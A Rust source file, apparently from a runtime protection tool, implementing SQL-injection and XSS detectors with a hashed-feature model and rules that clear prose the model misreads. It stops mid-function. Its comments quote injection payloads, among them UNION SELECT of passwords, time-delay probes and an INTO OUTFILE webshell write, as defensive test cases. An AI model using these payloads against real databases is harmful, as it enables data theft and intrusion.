//! The SQL-injection and XSS detectors: hashed features over a value and a
//! logistic-regression model trained offline (`rasp train`) and embedded in
//! the binary (crate `rasp-models`). Scoring is a sum of weights over the
//! value's features and a sigmoid: no file, no download, no allocation-heavy
//! work at run time, and values that cannot be an attack are cleared by a
//! byte pre-filter before any of it.

mod arithmetic;
mod css;
mod probe;
mod script_shape;
pub mod sql_grammar;
pub mod sql_lexer;
mod sql_reading;
mod token;

pub use probe::xss_probe;
pub(crate) use token::inert_password;

use std::borrow::Cow;
use std::sync::{Arc, OnceLock};

use serde::{Deserialize, Serialize};

use crate::byte_class::mark;
use crate::checks::injection::ValueDetector;
use crate::verdict::Check;
pub use script_shape::{
    handler_breakout, runs_code_or_reads_secrets, script_capable, script_data_url, script_element,
    scripted_element, string_breakout_call, style_from_elsewhere,
};
use sql_lexer::{lex, lower, Context, Tok, Token};

/// Number of hashed feature slots of each model.
pub const DIM: usize = 4096;

/// A logistic-regression model over hashed features.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct LinearModel {
    /// `sqli` or `xss`.
    pub kind: String,
    /// Model file version, bumped when features change.
    pub version: u32,
    /// Feature slots (must be [`DIM`]).
    pub dim: usize,
    /// Intercept.
    pub bias: f32,
    /// One weight per slot.
    pub weights: Vec<f32>,
}

impl LinearModel {
    /// Parses a model file.
    pub fn from_json(s: &str) -> Result<Self, String> {
        let m: LinearModel = serde_json::from_str(s).map_err(|e| e.to_string())?;
        if m.dim != DIM || m.weights.len() != DIM {
            return Err(format!(
                "model has {} weights for {} slots, expected {DIM}",
                m.weights.len(),
                m.dim
            ));
        }
        Ok(m)
    }

    /// The probability that a value with these features is an attack.
    pub fn score(&self, features: &[u32]) -> f64 {
        let z: f32 = self.bias
            + features
                .iter()
                .map(|&i| self.weights[i as usize % DIM])
                .sum::<f32>();
        1.0 / (1.0 + (-f64::from(z)).exp())
    }
}

/// FNV-1a over the parts of a feature name, mapped to a slot.
fn slot(parts: &[&[u8]]) -> u32 {
    parts.iter().fold(Fnv::START, |h, p| h.part(p)).slot()
}

/// The FNV-1a state after some parts of a feature name, so that n-grams
/// sharing a prefix (`b` `g` ...) hash it once: `Fnv::START.part(a).part(b)`
/// then `.part(c).slot()` equals `slot(&[a, b, c])`.
#[derive(Clone, Copy)]
struct Fnv(u32);

impl Fnv {
    const START: Fnv = Fnv(0x811c_9dc5);
    const PRIME: u32 = 0x0100_0193;

    fn part(self, p: &[u8]) -> Fnv {
        let mut h = self.0;
        for &b in p {
            h ^= u32::from(b);
            h = h.wrapping_mul(Self::PRIME);
        }
        h ^= 0xff;
        Fnv(h.wrapping_mul(Self::PRIME))
    }

    fn slot(self) -> u32 {
        self.0 % DIM as u32
    }
}

/// Sorts the slots and drops repeats (features are a set). A bitmap of the
/// `DIM` slots does it in one pass each way, cheaper than sorting the
/// hundred-odd slots of a value.
fn finish(out: &mut Vec<u32>) {
    let mut bits = [0u64; DIM / 64];
    for &i in out.iter() {
        let i = i as usize % DIM;
        bits[i / 64] |= 1 << (i % 64);
    }
    out.clear();
    for (w, &word) in bits.iter().enumerate() {
        let mut m = word;
        while m != 0 {
            out.push((w * 64) as u32 + m.trailing_zeros());
            m &= m - 1;
        }
    }
}

fn len_bucket(n: usize) -> [u8; 1] {
    [b'0' + (usize::BITS - n.leading_zeros()).min(40) as u8]
}

/// Tokens looked at per context: injections put their payload first.
const MAX_TOKENS: usize = 48;

/// Whether a value can be SQL at all: with SQL punctuation (quotes, comment
/// starts, `;`, parentheses, operators) it goes to the model; without it,
/// only when it contains an SQL word, as in `1 union select password from
/// users`. Plain words, numbers, names and prose without those are cleared.
/// This is the filter of the training set; the detector clears more (see
/// `sqli_scored`).
pub fn sqli_candidate(v: &str) -> bool {
    candidate_scan(v, false)
}

/// Whether the detector scores a value: a [`sqli_candidate`] whose quotes
/// are not all apostrophes between two ASCII letters (`O'Brien`, `don't`,
/// `rock'n'roll`) around words that cannot be SQL there (see
/// [`QUOTE_JOINED_WORDS`]). Such values still train the model, as the
/// XSS model trains on values without script: they are how it learns that
/// an apostrophe in prose is not a string's end, which it must know for the
/// prose that reaches it (`it's the end`); trained without them, the
/// model moved on other values (hand-written and sqlmap sets).
pub(crate) fn sqli_scored(v: &str) -> bool {
    candidate_scan(v, true)
}

/// Whether the SQLi detector scores 0 for `v` before any feature is read:
/// [`sqli_scored`] clears it, and no database reads it otherwise (see
/// `sql_reading`), the two tests `SqliDetector::score` starts with. The
/// engine leaves such values out when it can tell them from their bytes
/// alone (`checks::injection::is_plain`).
pub(crate) fn sqli_never_scored(v: &str) -> bool {
    !sqli_scored(v) && matches!(sql_reading::database_reading(v), Cow::Borrowed(_))
}

#[inline]
fn candidate_scan(v: &str, word_apostrophes: bool) -> bool {
    // One pass: SQL punctuation settles it; `--` is the only pair to watch
    // (`/*` holds `*`, which is punctuation already). Words are looked up
    // as they end, so no second pass splits the value.
    let b = v.as_bytes();
    let mut spaced = false;
    let mut at = false;
    let mut sql_word = false;
    let mut word_start = 0;
    let mut prev = 0u8;
    let mut inner_quote = false;
    let mut joined_word = false;
    for (i, &c) in b.iter().enumerate() {
        if c.is_ascii_alphabetic() {
            prev = c;
            continue;
        }
        match c {
            b'\''
                if word_apostrophes
                    && prev.is_ascii_alphabetic()
                    && b.get(i + 1).is_some_and(u8::is_ascii_alphabetic) =>
            {
                inner_quote = true;
            }
            b'\'' | b'"' | b'`' | b';' | b'#' | b'(' | b')' | b'=' | b'<' | b'>' | b'|' | b'&'
            | b'*' => return true,
            b'-' if prev == b'-' => return true,
            b'@' => at = true,
            b' ' | b'\t' | b'\n' | b'+' | b'\r' => spaced = true,
            _ => {}
        }
        if i >= word_start + 2 {
            let w = &b[word_start..i];
            if !sql_word {
                sql_word = is_bare_sql_word(w);
            }
            // Asked of every word as it ends, for the case an apostrophe
            // between letters turns up (a second pass that split the value
            // again cost ~1,000 of the 2,165 instructions of `Ships in 2-3
            // days, O'Brien's choice`, callgrind).
            if word_apostrophes && !joined_word {
                joined_word = is_quote_joined_only_word(w);
            }
        }
        word_start = i + 1;
        prev = c;
    }
    let last = &b[word_start..];
    if last.len() >= 2 {
        sql_word = sql_word || is_bare_sql_word(last);
        joined_word = joined_word || (word_apostrophes && is_quote_joined_only_word(last));
    }
    // `@` starts MySQL variables (`@@version`); a plain e-mail address, the
    // usual reason for an `@`, has nothing else that SQL could use.
    if at && !is_plain_email(v) {
        return true;
    }
    if inner_quote && (sql_word || joined_word) {
        return true;
    }
    spaced && sql_word
}

/// The words that, besides [`BARE_SQL_WORDS`], make a value whose only
/// quotes are apostrophes between letters a candidate. In the contexts an
/// injection lands in (`'<v>'`, or bare) each apostrophe opens or closes a
/// string, so the text between two of them may be read as SQL between two
/// strings: valid there are only an infix operator (`a'or'b`, `a'div'b`,
/// `a'sounds like'b`, `a'is null or'b`), a clause that takes a literal
/// (`offset`, `fetch`), `collate`, or a `CASE` branch; any other word is a
/// syntax error, not a changed query (`IN`, `EXISTS`, `ANY` need parentheses,
/// `NOT` another operator, `AS` only renames a column). Without one of these
/// words, `Jane O'Brien`, `don't` or `rock'n'roll` holds no injection and the
/// model is not asked (three lexings and the features, ~5,600 instructions for
/// `O'Brien`). Common English words among them (`is`, `end`, `case`) send such
/// prose to the model, as before.
const QUOTE_JOINED_WORDS: [&[u8]; 26] = [
    b"div",
    b"mod",
    b"is",
    b"null",
    b"true",
    b"false",
    b"unknown",
    b"ilike",
    b"similar",
    b"glob",
    b"match",
    b"sounds",
    b"between",
    b"collate",
    b"escape",
    b"binary",
    b"offset",
    b"fetch",
    b"returning",
    b"window",
    b"case",
    b"when",
    b"then",
    b"else",
    b"end",
    b"execute",
];

/// [`QUOTE_JOINED_WORDS`] by first letter, last letter and length, as
/// [`BARE_SQL_SHAPES`].
const QUOTE_JOINED_SHAPES: [[u16; 26]; 26] = word_shapes(&QUOTE_JOINED_WORDS);

/// Whether `w` is one of [`QUOTE_JOINED_WORDS`], in any case: the first and
/// last letters and the length settle most words (lower-casing each word
/// and matching it against the list cost ~70 instructions a word).
fn is_quote_joined_only_word(w: &[u8]) -> bool {
    has_shape(w, &QUOTE_JOINED_SHAPES)
        && QUOTE_JOINED_WORDS.iter().any(|k| k.eq_ignore_ascii_case(w))
}

/// Quote look-alikes that a database may take for its quotes: SQL Server
/// converts Unicode text to a code page by "best fit", turning the modifier
/// letter apostrophe `ʼ`, the prime `′` and the curly quotes (the low ones
/// of German and Polish, `„` and `‚`, too) into `'` and `"` (the full-width
/// `＇` is folded by NFKC already). `’ or ‘1’=’1` is judged as `' or
/// '1'='1`; prose with curly apostrophes (`it’s`) or quotation marks
/// (`„Guten Tag“, sagte er`, which kept one odd `"` before `„` was folded:
/// 0.92, and an error probe to the grammar) becomes the ASCII prose the
/// model is trained on. The double prime `″` (an inch mark: `13″`, a
/// screen size), which NFKC decomposes into two primes, is the one `"` it
/// stands for, as a typed `13"` is: two primes side by side are read so
/// (`13′′` read as `13''` scored 0.99, an error probe to the grammar).
/// Borrowed (no work) for ASCII values.
pub fn fold_quotes(v: &str) -> Cow<'_, str> {
    const LOOKALIKES: [char; 10] = [
        '\u{2018}', '\u{2019}', '\u{201A}', '\u{02BC}', '\u{2032}', '\u{201C}', '\u{201D}',
        '\u{201E}', '\u{02EE}', '\u{2033}',
    ];
    if v.is_ascii() || !v.contains(LOOKALIKES) {
        return Cow::Borrowed(v);
    }
    let mut out = String::with_capacity(v.len());
    let mut chars = v.chars().peekable();
    while let Some(c) = chars.next() {
        out.push(match c {
            '\u{2032}' if chars.next_if_eq(&'\u{2032}').is_some() => '"',
            '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{02BC}' | '\u{2032}' => '\'',
            '\u{201C}' | '\u{201D}' | '\u{201E}' | '\u{02EE}' | '\u{2033}' => '"',
            c => c,
        });
    }
    Cow::Owned(out)
}

/// The value from its first quote on, when that quote closes a string
/// rather than sitting inside a word (`Doe' or '1'='1`, not `O'Brien` nor
/// `Rue de l'Église`): followed by a space, an operator or a comment, after
/// a real value (at least `TAIL_MIN_LEAD` bytes: short leads such as
/// `admin'` are what the model is trained on whole) and with a payload after
/// it (a lone quote at the end, as in the Catalan `ampolla, l'`, is not one).
fn injection_tail(v: &str) -> Option<&str> {
    const TAIL_MIN_LEAD: usize = 8;
    let i = v.find(['\'', '"'])?;
    // A letter of any script continues the word: `l'Église 7, 75001` read
    // from its quote on scored 0.9989 where `l'Eglise` was never split.
    let closes = v[i + 1..]
        .chars()
        .next()
        .is_some_and(|c| !c.is_alphanumeric() && c != '\'' && c != '"');
    (i >= TAIL_MIN_LEAD && closes && v.len() - i >= 4).then(|| &v[i..])
}

/// The score given where the model's word is not to be taken, either way:
/// above the default threshold, under [`sql_grammar::CERTAIN`], so the
/// grammatical reading decides (a value holding `UNION SELECT` that the
/// model scored lower; prose it is wrongly certain of).
const GRAMMAR_DECIDES: f64 = 0.98;

/// Whole-value shapes that the SQLi model misreads and a rule of its own
/// clears: a CSS value ([`css`]), a generated secret ([`token`]), arithmetic
/// over numbers ([`arithmetic`]). Each rule reads its value whole; this
/// table says, in one pass that stops at the first byte none of them takes
/// (a quote, `;`, `<`...), which of them can apply at all, so that the
/// values most requests hold cost a few instructions a byte here.
const SHAPE_CSS: u8 = 1;
const SHAPE_TOKEN: u8 = 2;
const SHAPE_ARITH: u8 = 4;
const SHAPE_BYTES: [u8; 256] = {
    let all = SHAPE_CSS | SHAPE_TOKEN | SHAPE_ARITH;
    let mut t = mark([0; 256], b"0123456789", all);
    t = mark(
        t,
        b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
        all,
    );
    // White space around the value: the CSS and arithmetic rules trim it.
    t = mark(t, b" \t\n\r", SHAPE_CSS | SHAPE_ARITH);
    t = mark(t, css::SYMBOLS, SHAPE_CSS);
    t = mark(t, token::SYMBOLS, SHAPE_TOKEN);
    mark(t, arithmetic::SYMBOLS, SHAPE_ARITH)
};

/// Which whole-value shapes `b`'s bytes allow (see [`SHAPE_BYTES`]).
fn shapes(b: &[u8]) -> u8 {
    let mut allowed = SHAPE_CSS | SHAPE_TOKEN | SHAPE_ARITH;
    for &c in b {
        allowed &= SHAPE_BYTES[usize::from(c)];
        if allowed == 0 {
            break;
        }
    }
    allowed
}

/// Whether the value is one of the whole-value shapes that are neither SQL
/// nor script (see [`SHAPE_BYTES`]); `sql` also asks for arithmetic, which
/// is only not SQL. A generated secret is judged by a rule of each language
/// ([`token::inert_token`], [`script_shape::inert_secret`]).
fn harmless_shape(value: &str, sql: bool) -> bool {
    let allowed = shapes(value.as_bytes());
    (allowed & SHAPE_CSS != 0 && css::is_css_value(value))
        || (sql && allowed & SHAPE_TOKEN != 0 && token::inert_token(value))
        || (!sql && allowed & SHAPE_TOKEN != 0 && script_shape::inert_secret(value))
        || (sql && allowed & SHAPE_ARITH != 0 && arithmetic::harmless_arithmetic(value))
}

/// Prose the SQLi model reads as SQL with certainty where only the grammar
/// can tell: a line that starts with `#` (a Markdown heading, `# Title`
/// 0.9959; from the `#` on, a MySQL comment, which hides an injection only
/// when something before or after it changes the query), and a height in
/// feet and inches (`He's 5'11" and weighs 180 lbs` 1.0: after the inch
/// mark, `" and ...` is how a double-quoted string is left), and a street
/// address that ends with its unit number (see [`ends_with_unit_number`]),
/// a year shortened with an apostrophe (`Summer '24 -- sale ends Sunday`
/// 1.0: a quote then `--` is how an injection ends the query), and the
/// primes of calculus (`f'(x) = 2x` 0.996, see [`sql_grammar::prime_at`]).
fn prose_the_model_misreads(v: &str) -> bool {
    v.trim_start().starts_with('#')
        || sql_grammar::has_height(v)
        || length_in_prose(v)
        || short_year_in_prose(v)
        || sql_grammar::only_primes(v)
        || opens_with_contraction(v)
        || ends_with_unit_number(v).is_some()
        || ends_with_keypad_code(v).is_some()
        || opens_with_select(v)
        || bare_prose(v)
        || quotations_in_prose(v)
        || elisions_in_prose(v)
        || wordless(v)
        || backtick_apostrophes(v)
        || only_a_comment(v)
        || sharp_in_prose(v)
        || at_sign_in_prose(v)
}

/// Whether every `@` of the value stands before a price or a quantity
/// (`3 items @ 4.99` 0.995, `reply @ 10, 11 or 12` 1.0, `seats @ 1,2,3`
/// 0.999, `2 @ $3.99` to the model), in a value of words, numbers, spaces,
/// `.`, `,`, `-`, `:` and `$` only. SQL reads `@` as the start of a
/// variable's name, which may follow a space in MySQL (`1 or @ x` is `1 or
/// NULL`, every row) but never is a number (`@ 4.99` does not parse; in
/// PostgreSQL it is an absolute value, a number where a truth value is
/// wanted), so the grammar decides. SQL's punctuation leaves a value to the
/// model, as for `sharp_in_prose`: the grammar does not parse PL/SQL or
/// T-SQL, and `@ 1;BEGIN DBMS_LOCK.SLEEP(5); END` must not be cleared.
fn at_sign_in_prose(v: &str) -> bool {
    let b = v.as_bytes();
    if !b.iter().all(|&c| {
        c.is_ascii_alphanumeric()
            || c >= 0x80
            || matches!(c, b' ' | b'.' | b',' | b'-' | b':' | b'$' | b'@')
    }) {
        return false;
    }
    let mut any = false;
    for at in memchr::memchr_iter(b'@', b) {
        let mut i = at + 1;
        let spaces = b[i..].iter().take_while(|c| **c == b' ').count();
        i += spaces;
        if b.get(i) == Some(&b'$') {
            i += 1;
        }
        let number = b[i..]
            .iter()
            .take_while(|c| c.is_ascii_digit() || matches!(c, b'.' | b','))
            .count();
        let ends_as_a_number = b.get(i + number).is_none_or(|c| !c.is_ascii_alphanumeric());
        if spaces == 0 || !b.get(i).is_some_and(u8::is_ascii_digit) || !ends_as_a_number {
            return false;
        }
        any = true;
    }
    any
}

/// Whether the value marks a length in feet or inches (`6' HDMI 2.1 cable
/// (8K@60Hz)` 0.9955, see [`sql_grammar::has_length_mark`]) and holds no
/// comparison, statement separator or comment, and none of the constructs
/// that read a table or wait: a product's title needs none of them, and
/// the grammar does not parse every form an injection after a mark takes
/// (MySQL's full-text `IN BOOLEAN MODE`: a first version let sqlmap's `1'
/// in boolean mode);select (case when ...` through).
fn length_in_prose(v: &str) -> bool {
    let b = v.as_bytes();
    sql_grammar::has_length_mark(v)
        && !b.iter().any(|c| matches!(c, b';' | b'=' | b'#'))
        && memchr::memmem::find(b, b"--").is_none()
        && memchr::memmem::find(b, b"/*").is_none()
        && !reads_a_table(v)
        && !waits(v)
}

/// Whether the value shortens a year with an apostrophe (`Summer '24`,
/// `Class of '09`, `the '80s`) and holds none of the constructs that read
/// a table, wait or stack a statement: those are left to the model
/// (`1' waitfor delay '00:00:10'--`, whose time opens like a year;
/// `'80s union select 1,2-- -`).
fn short_year_in_prose(v: &str) -> bool {
    sql_grammar::has_short_year(v) && !reads_a_table(v) && !waits(v) && !stacks_a_statement(v)
}

/// Whether a word of prose ends with `#`, as the names of languages and
/// notes do (`Looking for a C# job`, `interactive C# shell`, `GTK# 3.0`:
/// 0.998-0.999 to the model, which reads a name and MySQL's comment), after
/// two words or more, in a value of words only (letters of any script,
/// digits, spaces, `.`, `,`, `-`): bare is the only place such a value
/// lands, and there the grammar reads whether the words before the `#` make
/// an expression the comment would end (`1 or id#...` does; `Looking for a
/// C` does not). Punctuation of SQL (`;`, `(`, `=`, quotes...) leaves the
/// value to the model: statements the grammar does not parse (`1;BEGIN
/// DBMS_LOCK.SLEEP(5); END# x`, PL/SQL) end with a word and `#` too.
fn sharp_in_prose(v: &str) -> bool {
    let b = v.as_bytes();
    let Some(h) = memchr::memchr(b'#', b) else {
        return false;
    };
    h > 0
        && b[h - 1].is_ascii_alphabetic()
        && b[..h].trim_ascii_start().contains(&b' ')
        && b.iter().all(|&c| {
            c.is_ascii_alphanumeric() || c >= 0x80 || matches!(c, b' ' | b'.' | b',' | b'-' | b'#')
        })
}

/// Whether the value is one block comment and nothing else (`/* Theme:
/// Autumn | v2.1 */`, a licence header pasted from CSS, 0.997), or one
/// followed by a line comment (`/* now make a new head in the exact same
/// spot */ -- Larry Wall in cons.c`, a quoted source line and its
/// attribution, 0.994): comments change no query wherever they land, which
/// the grammar reads (a query with them parses as the query without them).
/// A versioned comment (`/*!`), whose text MySQL runs, is not one (see
/// [`sql_reading`]); nor is a line comment with a line break in it, which
/// ends it.
fn only_a_comment(v: &str) -> bool {
    let v = v.trim();
    if v.len() < 4 || !v.starts_with("/*") || v.starts_with("/*!") {
        return false;
    }
    let Some(end) = v[2..].find("*/") else {
        return false;
    };
    let rest = v[end + 4..].trim_start();
    rest.is_empty()
        || ((rest.starts_with('#') || rest == "--" || rest.starts_with("-- "))
            && !rest.contains(['\n', '\r']))
}

/// Whether the value holds no SQL word at all: no keyword, function call,
/// `and`/`or`, comment or variable, wherever its quotes open or close
/// strings (they are read as spaces here: a word inside quotes in one
/// context is outside them in another). `ui`Betfsb8juD^qn` (0.99, a
/// generated password with a backtick) has none. Without one a value changes
/// a query only by its punctuation (`'='`, `1'-'1`), which the grammar reads
/// in every context it tries, so the model's certainty is lowered to where
/// it decides.
fn wordless(v: &str) -> bool {
    let unquoted = v.replace(['\'', '"', '`'], " ");
    let mut toks = Vec::with_capacity(16);
    lex(&unquoted, Context::Bare, MAX_TOKENS, &mut toks);
    !toks.iter().any(|t| {
        matches!(
            t.tok,
            Tok::Keyword | Tok::Function | Tok::Logic | Tok::Comment | Tok::Variable
        )
    })
}

/// Whether the value is names joined by `and` or `or` and commas and nothing
/// else: company names (`Smith, Jones and Brown` 0.96, `and Sons` 0.97,
/// `Pelletier, Turcotte and Morin`), lists and choices (`red, green and
/// blue`, `Salt and pepper` 0.75, `tea or coffee`, `cash or card`, `yes or
/// no`, `sooner or later`: 0.76 each), in any script. Bare, SQL reads them
/// as a boolean expression over columns, which the grammar accepts (`WHERE
/// b = Salt and pepper` parses). But `and` can only narrow the rows a
/// condition selects, and a list item only adds a column to compare with;
/// the widest condition names can make is one bare name (`WHERE id = id`,
/// every row), which every plain word already is. `or` widens: `x or id`
/// selects every row whose `id` is not 0, whatever column the query
/// compares. Text only does that through a column of numbers the query's
/// table has, which an attacker who has not read the schema guesses: a key
/// ([`key_like`]). Names joined by `or` with no such name among them are
/// cleared. So are such names after a number that opens the value (`10 or
/// more` 0.999, `5 and up`, as a form's choices read): the number is
/// compared with the query's column, the names decide as above. Any other
/// number (`1 and 1`, `1 or 2`, `x or 1`: see [`joins_true`]), a keyword
/// (`union`), a literal (`AND true` and `AND false`, the two halves of a
/// boolean probe; `x or true`), `xor` or `not`, a call, a quote, an
/// operator other than a hyphen inside a name, or any other mark leave the
/// value to the model and the grammar.
fn names_joined(v: &str) -> bool {
    let digits = v.bytes().take_while(u8::is_ascii_digit).count();
    let v = match v.as_bytes().get(digits) {
        Some(b' ') if digits > 0 => {
            let rest = &v[digits + 1..];
            let joined = |j: &str| {
                rest.get(..j.len())
                    .is_some_and(|w| w.eq_ignore_ascii_case(j))
                    && rest.as_bytes().get(j.len()) == Some(&b' ')
            };
            if !(joined("or") || joined("and")) {
                return false;
            }
            rest
        }
        _ => v,
    };
    let b = v.as_bytes();
    // Digits inside a name after its first letter (`A1 or B2`, `v1 or v2`:
    // seats, versions), never opening one: a number is no name.
    let digit_inside =
        |i: usize, c: u8| c.is_ascii_digit() && i > 0 && b[i - 1].is_ascii_alphanumeric();
    if !names_text(b, digit_inside) {
        return false;
    }
    let mut toks = Vec::with_capacity(16);
    lex(v, Context::Bare, MAX_TOKENS, &mut toks);
    let logic =
        |t: &Token<'_>, word: &str| t.tok == Tok::Logic && t.text.eq_ignore_ascii_case(word);
    let joiner = |t: &Token<'_>| logic(t, "and") || logic(t, "or");
    let literal = |t: &Token<'_>| {
        ["true", "false", "null", "unknown"]
            .iter()
            .any(|l| t.text.eq_ignore_ascii_case(l))
    };
    let name = |t: &Token<'_>| t.tok == Tok::Bareword && !literal(t);
    toks.len() < MAX_TOKENS
        && toks.iter().any(joiner)
        && toks.iter().any(name)
        && toks.iter().all(|t| {
            joiner(t) || name(t) || t.tok == Tok::Comma || (t.tok == Tok::Operator && t.text == "-")
        })
        && !(toks.iter().any(|t| logic(t, "or")) && toks.iter().any(|t| key_like(t.text)))
}

/// Whether the value is a name with the years of a life or an era, as
/// catalogues write them: names (letters of any script, spaces, commas,
/// initials' periods, hyphens inside names), a space, then `(year)` or
/// `(year-year)` ending the value (`Mozart (1756-1791)` 0.96, `Austen, Jane
/// (1775-1817)` 0.98, `English, Middle (1100-1500)`, ISO 639's name of a
/// language). Bare, SQL reads the last name and the parentheses as a call of
/// a function of that name, which the grammar accepts. A function that waits,
/// reads or builds a string is a keyword to the lexer (`sleep`, `benchmark`,
/// `char`, `version`, `load_file`) or has a `_` or digits (`pg_sleep`,
/// `md5`), and a name with one is left to the model, as are a later year
/// first, a logic word (`Smith or id (1950-2000)`) or any other mark; any
/// other name calls a function no database has, or one that computes a
/// number (`floor (1950)`): the query fails or reads nothing more.
fn dated_name(v: &str) -> bool {
    let b = v.trim_end().as_bytes();
    let Some(rest) = b.strip_suffix(b")") else {
        return false;
    };
    let Some(open) = memchr::memrchr(b'(', rest) else {
        return false;
    };
    let year = |d: &[u8]| (3..=4).contains(&d.len()) && d.iter().all(u8::is_ascii_digit);
    let inside = &rest[open + 1..];
    let (from, to) = match memchr::memchr(b'-', inside) {
        Some(dash) => (&inside[..dash], &inside[dash + 1..]),
        None => (inside, inside),
    };
    let value = |d: &[u8]| d.iter().fold(0u32, |n, &c| n * 10 + u32::from(c - b'0'));
    if !(year(from) && year(to) && value(from) <= value(to)) || open < 2 || b[open - 1] != b' ' {
        return false;
    }
    let names = &v[..open - 1];
    let nb = names.as_bytes();
    // Initials' periods beside the names' own bytes (`Bach, J. S.`).
    if !names_text(nb, |_, c| c == b'.')
        || !nb
            .first()
            .is_some_and(|c| c.is_ascii_alphabetic() || *c >= 0x80)
    {
        return false;
    }
    let mut toks = Vec::with_capacity(16);
    lex(names, Context::Bare, MAX_TOKENS, &mut toks);
    toks.len() < MAX_TOKENS
        && toks
            .iter()
            .all(|t| matches!(t.tok, Tok::Bareword | Tok::Comma | Tok::Dot))
}

/// Whether `b` is the text of names: letters of any script (the lexer
/// reads every byte from 0x80 up as part of a word), spaces, commas,
/// hyphens inside names, and the bytes `more` accepts at their index.
/// [`names_joined`] and [`dated_name`] read their names so.
fn names_text(b: &[u8], more: impl Fn(usize, u8) -> bool) -> bool {
    // A letter of any script on each side: `Marisavljević-Aćin` and
    // `พลจรัส-วงศ์ค้างพลู` (Faker's company names, 0.97 and 0.96 when an ASCII
    // letter was asked for) are names as `Smith-Jones` is.
    let letter = |c: &u8| c.is_ascii_alphabetic() || *c >= 0x80;
    let hyphen_inside = |i: usize| i > 0 && letter(&b[i - 1]) && b.get(i + 1).is_some_and(letter);
    b.iter().enumerate().all(|(i, &c)| {
        c.is_ascii_alphabetic()
            || c >= 0x80
            || c == b' '
            || c == b','
            || (c == b'-' && hyphen_inside(i))
            || more(i, c)
    })
}

/// Whether a name is one a blind `or` guesses for a column of numbers that
/// every row of a table has, not 0: a key (`id`, `rowid`, `oid`, `userId`,
/// `UserID`), a row number (`rownum`), or the clock MySQL reads without
/// parentheses (`localtime`).
fn key_like(name: &str) -> bool {
    const NAMES: &[&str] = &[
        "id",
        "rowid",
        "oid",
        "ctid",
        "uid",
        "pid",
        "gid",
        "userid",
        "rownum",
        "localtime",
        "localtimestamp",
    ];
    NAMES.iter().any(|n| name.eq_ignore_ascii_case(n))
        || (name.len() > 2 && (name.ends_with("Id") || name.ends_with("ID")))
}

/// Whether every backtick of the value sits between two letters, as people
/// type an apostrophe with the key next to it (`Don`t forget to call me`,
/// `O`Brien` 0.99: to the model, MySQL's quoted names). The grammar does not
/// count such a backtick as an error probe (as with `'` in `O'Brien`) but
/// still reads a value that injects through one (``id`desc,(select
/// sleep(5))#`` as a sort key).
fn backtick_apostrophes(v: &str) -> bool {
    let mut backticks = memchr::memchr_iter(b'`', v.as_bytes()).peekable();
    backticks.peek().is_some() && backticks.all(|i| sql_grammar::inside_a_word(v, i))
}

/// Whether the value holds words side by side and nothing that lets text
/// out of a bare expression: no quote, block comment, `;` (but see
/// below), comparison,
/// `=`, `|`, `&`, `@` or backslash (`Converts MS Word files to text, PS,
/// PDF and XML` 1.0, `Perl build helper to guess C++ compiler and flags`
/// 1.0: lists joined with `and` and `or`, which the model reads as boolean
/// injections). Such a value injects only as an expression wherever it
/// lands, and two operands side by side are none: the grammar reads it
/// exactly (`1 union select password from users`, `1 or sleep(5)` still
/// parse), so its certainty is lowered to where the grammar decides. A line
/// comment is allowed since the fourteenth session (an attribution: `To
/// beer or not to beer -- ShakesBeer` 0.99, `tool to study street networks
/// from OpenStreetMap -- doc`: 2 of the 60,012 Debian package summaries,
/// 6 of 75,720 fortunes, no line of any attack list): what it cuts off
/// follows words that already leave no query (`a b --\nor 1` parses
/// nowhere), and what it keeps is judged as before (`1 or 1 -- x y`). A
/// `;` is allowed since the fifteenth session where it ends an item of a
/// list (see [`ends_an_item`]).
fn bare_prose(v: &str) -> bool {
    let b = v.as_bytes();
    let marks = b.iter().enumerate().any(|(i, c)| {
        matches!(
            c,
            b'\'' | b'"' | b'`' | b'#' | b'=' | b'<' | b'>' | b'|' | b'&' | b'@' | b'\\'
        ) || (*c == b';' && !ends_an_item(&b[i + 1..]))
    });
    if marks || memchr::memmem::find(b, b"/*").is_some() {
        return false;
    }
    // A call written as code (`sleep(5)`, no space before the parenthesis)
    // or a subquery keeps its certainty: in a column list (`SELECT <value>
    // FROM`, an API's `fields=`), a context the grammar does not try,
    // `sleep(5) x, 1 y` runs with its names as aliases.
    let call = b
        .windows(2)
        .any(|w| (w[0].is_ascii_alphanumeric() || w[0] == b'_') && w[1] == b'(');
    if call || reads_a_table(v) {
        return false;
    }
    let mut toks = Vec::with_capacity(16);
    lex(v, Context::Bare, MAX_TOKENS, &mut toks);
    toks.windows(2)
        .any(|w| w[0].tok.is_value() && w[1].tok.is_value())
}

/// Whether what follows a `;` is nothing, or `and` or `or` as a word: how
/// the items of a list in a contract end (`You must cause any modified
/// files to carry prominent notices stating that You changed the files;
/// and`, of the Apache License 2.0, 0.9939; `1. for your internal use and
/// access;` 0.9992). No statement begins with a conjunction, and an empty
/// one runs nothing, so such a `;` stacks nothing in any context (in a
/// column list, `SELECT a b; and ... FROM t`, the second statement fails).
/// Any other `;` may start a statement the grammar does not parse (`a b;
/// shutdown with nowait`, T-SQL), and leaves the value to the model.
fn ends_an_item(after: &[u8]) -> bool {
    let rest = after.trim_ascii_start();
    let word = rest
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    rest.is_empty()
        || rest[..word].eq_ignore_ascii_case(b"and")
        || rest[..word].eq_ignore_ascii_case(b"or")
}

/// Whether the value is prose whose quotes are quotation marks: each opens
/// at the start or after a space, before a character, and closes after a
/// character, before the end, a space or sentence punctuation (`Duplicate
/// entry 'jane@example.com' for key 'users.email'`, a database's error
/// pasted into a support form, 0.9976: to the model strings compared in a
/// condition), with three words or more outside them and nothing there but
/// letters, digits, spaces, single hyphens and sentence punctuation. An
/// apostrophe inside a word (`It's`) is no quote. An injection into a
/// string closes it with its first quote and must go on as SQL; in this
/// shape the first quote is followed by text and its partner by a word, so
/// the grammar decides (`'x' or 'y'` bare still parses). A comparison, a
/// call or a comment outside the quotes, or any of the words without which
/// SQL cannot join a condition (`and`, `or`, `like`, `into`, `union`...: see
/// [`has_bare_sql_word`]) leaves the value to the model: the grammar does
/// not parse every dialect's forms (`1 INTO OUTFILE '/var/www/x.php'`, `1
/// and 'x' sounds like 'x'`, which a first version let through).
fn quotations_in_prose(v: &str) -> bool {
    let b = v.as_bytes();
    let mut open: Option<u8> = None;
    let mut quotations = 0;
    let mut words = 0;
    for (i, &c) in b.iter().enumerate() {
        if let Some(q) = open {
